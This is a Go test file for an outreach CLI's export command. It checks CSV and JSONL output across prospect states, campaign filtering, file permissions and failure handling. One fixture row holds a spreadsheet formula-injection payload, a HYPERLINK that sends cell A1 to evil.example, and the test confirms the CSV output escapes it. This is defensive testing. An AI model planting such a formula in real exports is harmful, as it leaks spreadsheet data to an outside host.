package cli

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/outreach-scheduler/outreach/internal/golden"
	"github.com/outreach-scheduler/outreach/internal/redistest"
	"github.com/outreach-scheduler/outreach/ledger"
	"github.com/outreach-scheduler/outreach/platform"
	"github.com/outreach-scheduler/outreach/wire"
)

// exportWorkspace copies testdata/export (campaigns leads and other) to a
// temporary directory with the Redis at addr, applies leads only (other
// is read from its file, as `outreach run` does), and writes a ledger in
// which leads' prospects reach every state:
//
//	ann  invited (alice, company)          bo  accepted, then messaged
//	cy   declined (short, missing_field)   di  withdrawn (bob, blank)
//	ed   failed invalid_profile            flo skipped: the platform said duplicate
//	gus  queued                            hal skipped: excluded
//	ivy  accepted, her message refused     +1 555 0100 queued, hostile fields
//
// and other's zoe accepted.
func exportWorkspace(t *testing.T, srv *redistest.Server) (cfg, dir string) {
	t.Helper()
	dir = t.TempDir()
	if err := os.CopyFS(dir, os.DirFS("testdata/export")); err != nil {
		t.Fatal(err)
	}
	cfg = filepath.Join(dir, "config.yaml")
	data, err := os.ReadFile(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(cfg, append([]byte("redis:\n  addr: "+srv.Addr()+"\n"), data...), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, stdout, stderr := runCLI(t, "--config", cfg, "apply", filepath.Join(dir, "campaigns", "leads.yaml")); code != ExitOK {
		t.Fatalf("apply: exit %d\n%s%s", code, stdout, stderr)
	}
	ctx := context.Background()
	led := ledger.New(srv.Client(), "")
	t0 := time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)
	at := func(d time.Duration) time.Time { return t0.Add(d) }
	invite := func(camp, acct, person string, when time.Time, variant string, chars int, fallback string, o wire.Outcome) {
		t.Helper()
		tk := wire.Task{Kind: wire.KindInvite, At: when, Account: acct, Campaign: camp, Person: person, Key: camp + "/" + person + "/connect",
			Variant: variant, Chars: chars, Fallback: fallback}
		o.At = when.Add(1500 * time.Millisecond) // sent a second and a half after its slot: whole seconds in the export
		if err := led.AppendOutcome(ctx, tk, o); err != nil {
			t.Fatal(err)
		}
	}
	event := func(typ platform.EventType, camp, acct, person string, when time.Time) {
		t.Helper()
		if err := led.AppendEvent(ctx, wire.Event{Type: typ, Account: acct, Person: person, Key: camp + "/" + person + "/connect", At: when}); err != nil {
			t.Fatal(err)
		}
	}
	task := func(kind wire.Kind, step int, camp, acct, person string, when time.Time, o wire.Outcome) {
		t.Helper()
		tk := wire.Task{Kind: kind, At: when, Account: acct, Campaign: camp, Person: person, Key: fmt.Sprintf("%s/%s/%s%d", camp, person, kind, step), Step: step}
		o.At = when
		if err := led.AppendOutcome(ctx, tk, o); err != nil {
			t.Fatal(err)
		}
	}
	ok := wire.Outcome{Kind: wire.Delivered}
	invite("leads", "alice", "ann@example.com", at(0), "company", 29, "", ok)
	invite("leads", "alice", "bo@example.com", at(time.Minute), "company", 28, "", ok)
	invite("leads", "alice", "cy@example.com", at(2*time.Minute), "short", 25, "missing_field", ok)
	invite("leads", "bob", "di@example.com", at(3*time.Minute), "blank", 0, "note_allowance", ok)
	invite("leads", "alice", "ed@example.com", at(4*time.Minute), "company", 28, "", wire.Outcome{Kind: wire.Refused, Code: platform.CodeInvalidProfile})
	invite("leads", "alice", "flo@example.com", at(5*time.Minute), "company", 29, "", wire.Outcome{Kind: wire.Refused, Code: platform.CodeDuplicate})
	invite("leads", "alice", "ivy@example.com", at(6*time.Minute), "company", 30, "", ok)
	invite("other", "bob", "zoe@example.com", at(7*time.Minute), "blank", 0, "", ok)
	event(platform.EventAccepted, "leads", "alice", "bo@example.com", at(3*time.Hour))
	event(platform.EventDeclined, "leads", "alice", "cy@example.com", at(4*time.Hour))
	event(platform.EventAccepted, "other", "bob", "zoe@example.com", at(5*time.Hour))
	event(platform.EventAccepted, "leads", "alice", "ivy@example.com", at(6*time.Hour))
	task(wire.KindMessage, 0, "leads", "alice", "bo@example.com", at(27*time.Hour), ok)
	task(wire.KindMessage, 0, "leads", "alice", "ivy@example.com", at(30*time.Hour), wire.Outcome{Kind: wire.Refused, Code: platform.CodeNotConnected})
	task(wire.KindWithdraw, 0, "leads", "bob", "di@example.com", at(21*24*time.Hour), ok)
	return cfg, dir
}

// readCSV parses an export with encoding/csv and returns its records by
// key (campaign/key), checking that every record has the header's columns.
func readCSV(t *testing.T, data string) (header []string, rows map[string]map[string]string, order []string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(data)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("encoding/csv: %v\n%s", err, data)
	}
	header, rows = recs[0], map[string]map[string]string{}
	for _, r := range recs[1:] {
		m := map[string]string{}
		for i, h := range header {
			m[h] = r[i]
		}
		id := m["campaign"] + "/" + m["key"]
		rows[id] = m
		order = append(order, id)
	}
	return header, rows, order
}

// TestExport: on a real Redis, every state of a small workspace comes out
// right in CSV and JSONL, hostile cells escaped in CSV only; campaigns
// filter and order the rows; --out writes the file; the output is golden.
func TestExport(t *testing.T) {
	srv := redistest.Start(t)
	cfg, dir := exportWorkspace(t, srv)
	norm := func(s string) string { return strings.ReplaceAll(s, dir, "$DIR") }

	code, stdout, stderr := runCLI(t, "--config", cfg, "export")
	if code != ExitOK {
		t.Fatalf("export: exit %d\n%s", code, stderr)
	}
	golden.Check(t, "testdata/golden/export_all.csv", stdout)
	golden.Check(t, "testdata/golden/export_all_stderr.txt", norm(stderr))
	header, rows, order := readCSV(t, stdout)
	wantHeader := []string{"key", "campaign", "account", "state", "variant", "note_length", "fallback", "invited_at", "answered_at", "messaged_at", "reason", "company", "first_name"}
	if !slices.Equal(header, wantHeader) {
		t.Errorf("header %q, want %q", header, wantHeader)
	}
	wantOrder := []string{"leads/ann@example.com", "leads/bo@example.com", "leads/cy@example.com", "leads/di@example.com", "leads/ed@example.com",
		"leads/flo@example.com", "leads/gus@example.com", "leads/hal@example.com", "leads/ivy@example.com", "leads/'+1 555 0100", "other/ann@example.com", "other/zoe@example.com"}
	if !slices.Equal(order, wantOrder) {
		t.Errorf("rows %q, want %q", order, wantOrder)
	}
	for id, want := range map[string]string{
		"leads/ann@example.com": "alice invited company 29 - 2026-11-02T09:00:01Z - - -",
		"leads/bo@example.com":  "alice messaged company 28 - 2026-11-02T09:01:01Z 2026-11-02T12:00:00Z 2026-11-03T12:00:00Z -",
		"leads/cy@example.com":  "alice declined short 25 missing_field 2026-11-02T09:02:01Z 2026-11-02T13:00:00Z - -",
		"leads/di@example.com":  "bob withdrawn blank 0 note_allowance 2026-11-02T09:03:01Z 2026-11-23T09:00:00Z - -",
		"leads/ed@example.com":  "alice failed - - - - - - invalid_profile",
		"leads/flo@example.com": "alice skipped - - - - - - already_invited",
		"leads/gus@example.com": "- queued - - - - - - -",
		"leads/hal@example.com": "- skipped - - - - - - excluded",
		"leads/ivy@example.com": "alice messaged company 30 - 2026-11-02T09:06:01Z 2026-11-02T15:00:00Z - message_not_connected",
		"leads/'+1 555 0100":    "- queued - - - - - - -",
		"other/ann@example.com": "- queued - - - - - - -",
		"other/zoe@example.com": "bob accepted blank 0 - 2026-11-02T09:07:01Z 2026-11-02T14:00:00Z - -",
	} {
		r := rows[id]
		var got []string
		for _, col := range []string{"account", "state", "variant", "note_length", "fallback", "invited_at", "answered_at", "messaged_at", "reason"} {
			v := r[col]
			if v == "" {
				v = "-"
			}
			got = append(got, v)
		}
		if g := strings.Join(got, " "); g != want {
			t.Errorf("%s:\n got  %s\n want %s", id, g, want)
		}
	}
	if h := rows["leads/'+1 555 0100"]; h["first_name"] != `'=HYPERLINK("http://evil.example/?"&A1,"click")` || h["company"] != "'@corp" {
		t.Errorf("hostile fields read back as %q %q", h["first_name"], h["company"])
	}
	if r := rows["leads/ann@example.com"]; r["first_name"] != "Ann" || r["company"] != "Acme" {
		t.Errorf("ann's fields: %v", r)
	}
	if strings.Contains(stdout, "CTO") {
		t.Error("the export holds a column no template uses (title)")
	}

	// Campaigns filter, in the order named.
	code, stdout, _ = runCLI(t, "--config", cfg, "export", "other", "leads")
	if _, _, order := readCSV(t, stdout); code != ExitOK || !slices.Equal(order, append(slices.Clone(wantOrder[10:]), wantOrder[:10]...)) {
		t.Errorf("export other leads: exit %d, rows %q", code, order)
	}
	code, stdout, _ = runCLI(t, "--config", cfg, "export", "other")
	if header, _, order := readCSV(t, stdout); code != ExitOK || !slices.Equal(order, wantOrder[10:]) || len(header) != 11 {
		t.Errorf("export other: exit %d, header %q, rows %q", code, header, order)
	}

	// JSONL: the same values, unescaped.
	code, stdout, _ = runCLI(t, "--config", cfg, "export", "--format", "jsonl", "leads")
	if code != ExitOK {
		t.Fatalf("export --format jsonl: exit %d", code)
	}
	golden.Check(t, "testdata/golden/export_leads.jsonl", stdout)
	lines := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
	if len(lines) != 10 {
		t.Fatalf("%d JSONL lines, want 10", len(lines))
	}
	var hostile struct {
		Key        string
		State      string
		NoteLength *int `json:"note_length"`
		Fields     map[string]string
	}
	if err := json.Unmarshal([]byte(lines[9]), &hostile); err != nil || hostile.Key != "+1 555 0100" || hostile.State != "queued" ||
		hostile.NoteLength != nil || hostile.Fields["first_name"] != `=HYPERLINK("http://evil.example/?"&A1,"click")` || hostile.Fields["company"] != "@corp" {
		t.Errorf("JSONL hostile row: %+v %v\n%s", hostile, err, lines[9])
	}

	// --out: the file, its summary, readable by the owner only.
	out := filepath.Join(dir, "results.csv")
	code, stdout, stderr = runCLI(t, "--config", cfg, "export", "--out", out, "leads")
	if code != ExitOK || stdout != "exported 10 prospects to "+out+"\n" || stderr != "" {
		t.Errorf("export --out: exit %d\n%s%s", code, stdout, stderr)
	}
	data, err := os.ReadFile(out)
	if _, rows, _ := readCSV(t, string(data)); err != nil || len(rows) != 10 {
		t.Errorf("the file holds %d rows (%v)", len(rows), err)
	}
	if st, err := os.Stat(out); err != nil || st.Mode().Perm() != 0o600 {
		t.Errorf("the file's mode: %v %v", st.Mode(), err)
	}
}

// TestExportErrors: an unknown campaign is exit 1 and writes nothing, an
// unknown format and no shared Redis exit 2; a failed export leaves the
// --out file as it was and no temporary file.
func TestExportErrors(t *testing.T) {
	const cfg = "testdata/export/config.yaml" // redis.addr empty, and no outreach run running
	cases := []struct {
		name string
		args []string
		code int
	}{
		{"unknown_campaign", []string{"export", "leads", "nope"}, ExitInvalid},
		{"unknown_format", []string{"export", "--format", "xlsx"}, ExitError},
		{"no_redis", []string{"export"}, ExitError},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			out := filepath.Join(dir, "out.csv")
			args := append(append([]string{"--config", cfg}, tc.args...), "--out", out)
			code, stdout, stderr := runCLI(t, args...)
			if code != tc.code {
				t.Errorf("exit %d, want %d", code, tc.code)
			}
			if es, _ := os.ReadDir(dir); len(es) != 0 {
				t.Errorf("the directory holds %v after a failed export", es)
			}
			got := fmt.Sprintf("$ outreach %s\nexit: %d\n--- stdout\n%s--- stderr\n%s", strings.Join(args, " "), code, stdout, strings.ReplaceAll(stderr, dir, "$DIR"))
			golden.Check(t, filepath.Join("testdata", "golden", "export_"+tc.name+".txt"), strings.ReplaceAll(got, dir, "$DIR"))
		})
	}

	// Redis goes away: the export fails, the old file stays, nothing else.
	srv := redistest.Start(t)
	cfgFile, dir := exportWorkspace(t, srv)
	out := filepath.Join(dir, "results.csv")
	if err := os.WriteFile(out, []byte("the last export\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	srv.Kill()
	code, stdout, stderr := runCLI(t, "--config", cfgFile, "export", "--out", out)
	if code != ExitError || !strings.Contains(stderr, "(nothing written to "+out+")") {
		t.Errorf("export without Redis: exit %d\n%s%s", code, stdout, stderr)
	}
	if data, _ := os.ReadFile(out); string(data) != "the last export\n" {
		t.Errorf("the old file now holds %q", data)
	}
	es, _ := os.ReadDir(dir)
	for _, e := range es {
		if strings.HasSuffix(e.Name(), ".tmp") {
			t.Errorf("temporary file %s left behind", e.Name())
		}
	}
}
